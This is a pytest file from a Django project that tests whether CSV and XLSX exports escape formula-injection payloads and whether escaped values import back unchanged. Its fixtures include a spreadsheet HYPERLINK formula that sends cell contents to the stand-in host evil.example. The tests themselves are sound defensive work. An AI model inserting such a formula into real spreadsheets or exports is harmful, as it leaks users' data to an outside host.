"""Files in and out: no spreadsheet Pacta writes holds a formula.

Formulae: the public CSV downloads, the admin's CSV and XLSX exports (records.formulae), and the round trip of an
escaped text through an admin export and import.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from agreements.models import Agreement
from records.formulae import escape, unescape
from tests import factories
from tests.portal.test_exports import csv_rows, json_results
from tests.portal.test_import_export import CSV_FORMAT, XLSX_FORMAT, _confirm, _preview

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:agreements_agreement_export")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
PAYLOADS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def payload_agreements():
    """Agreements titled with each formula payload, by slug."""
    return {factories.AgreementFactory(slug=f"payload-{n}", title=text).slug: text for n, text in enumerate(PAYLOADS)}


def _admin_export(client, file_format, *records):
    response = client.post(
        EXPORT, {"format": str(file_format), "resource": "0", "export_items": [record.pk for record in records]}
    )
    assert response.status_code == 200
    return response.content


# The rule (records.formulae), on the values it decides about.


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("- first point", "'- first point"),
        ("@cbp", "'@cbp"),
        ("'=1+1", "''=1+1"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-1.5e3", "-1.5e3"),
        ("2024-10", "2024-10"),
        ("'quoted'", "'quoted'"),
        ("Border security", "Border security"),
        ("", ""),
        (None, None),
    ],
)
def test_a_text_that_would_start_a_formula_is_written_after_a_quote_and_read_back_unchanged(value, written):
    assert escape(value) == written
    assert unescape(escape(value)) == value


# Exports: no formula in any spreadsheet Pacta writes.


def test_the_public_csv_download_neutralises_formulae_and_json_keeps_the_texts(client, payload_agreements):
    factories.AgreementFactory(slug="number", title="-12")

    rows = {row["slug"]: row["title"] for row in csv_rows(client.get("/agreements/?format=csv"))}
    items = {item["slug"]: item["title"] for item in json_results(client.get("/agreements/?format=json"))}

    assert {slug: rows[slug] for slug in payload_agreements} == {
        slug: "'" + text for slug, text in payload_agreements.items()
    }
    assert rows["number"] == "-12"
    assert {slug: items[slug] for slug in payload_agreements} == payload_agreements


def test_the_admin_csv_export_neutralises_formulae(staff_client, payload_agreements):
    content = _admin_export(staff_client, CSV_FORMAT, *Agreement.objects.filter(slug__in=payload_agreements))

    rows = {row["slug"]: row["title_en"] for row in csv.DictReader(io.StringIO(content.decode("utf-8-sig")))}
    assert rows == {slug: "'" + text for slug, text in payload_agreements.items()}


def test_the_admin_xlsx_export_holds_texts_and_no_formula(staff_client, payload_agreements):
    content = _admin_export(staff_client, XLSX_FORMAT, *Agreement.objects.filter(slug__in=payload_agreements))

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    headers = [cell.value for cell in sheet[1]]
    slug, title = headers.index("slug"), headers.index("title_en")
    titles = {row[slug].value: row[title] for row in sheet.iter_rows(min_row=2)}
    assert {slug: cell.data_type for slug, cell in titles.items()} == dict.fromkeys(payload_agreements, "s")
    # XML reads a carriage return as a line feed: an XLSX cell never holds a lone "\r".
    assert {slug: cell.value for slug, cell in titles.items()} == {
        slug: "'" + text.replace("\r", "\n") for slug, text in payload_agreements.items()
    }


@pytest.mark.parametrize(("file_format", "name"), [(CSV_FORMAT, "agreements.csv"), (XLSX_FORMAT, "agreements.xlsx")])
def test_an_escaped_title_imports_back_to_the_original(staff_client, file_format, name):
    agreement = factories.AgreementFactory(slug="evil", title=HYPERLINK, summary="- first point")
    content = _admin_export(staff_client, file_format, agreement)

    unchanged = _preview(staff_client, content, name=name, file_format=file_format)
    assert [row.import_type for row in unchanged.context["result"].rows] == ["skip"]

    agreement.delete()
    _confirm(staff_client, _preview(staff_client, content, name=name, file_format=file_format))
    imported = Agreement.objects.get(slug="evil")
    assert (imported.title, imported.summary) == (HYPERLINK, "- first point")
